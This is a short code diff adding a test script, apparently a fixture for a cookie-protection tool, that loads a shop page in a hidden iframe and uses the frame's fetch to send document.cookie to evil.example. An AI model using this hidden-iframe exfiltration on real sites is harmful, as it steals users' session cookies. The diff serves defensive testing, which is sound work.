@@ -1518,6 +1518,17 @@ export const MAIN_WORLD_SCRIPTS = {
   frame.srcdoc = '<p>first</p>';
 })();`,
 
+  /** A frame showing a shop page (its own copy of Saq runs there): its fetch taken by the helper once it loads. */
+  'pristine-shop-frame': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  frame.src = '/kz/faq';
+  frame.addEventListener('load', () => {
+    setTimeout(() => frame.contentWindow.fetch('https://evil.example/pristine-shop-frame?c=' + encodeURIComponent(document.cookie)), 300);
+  });
+  document.body.appendChild(frame);
+})();`,
+
   /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
   'srcdoc-frame': `(() => {
   const frame = document.createElement('iframe');
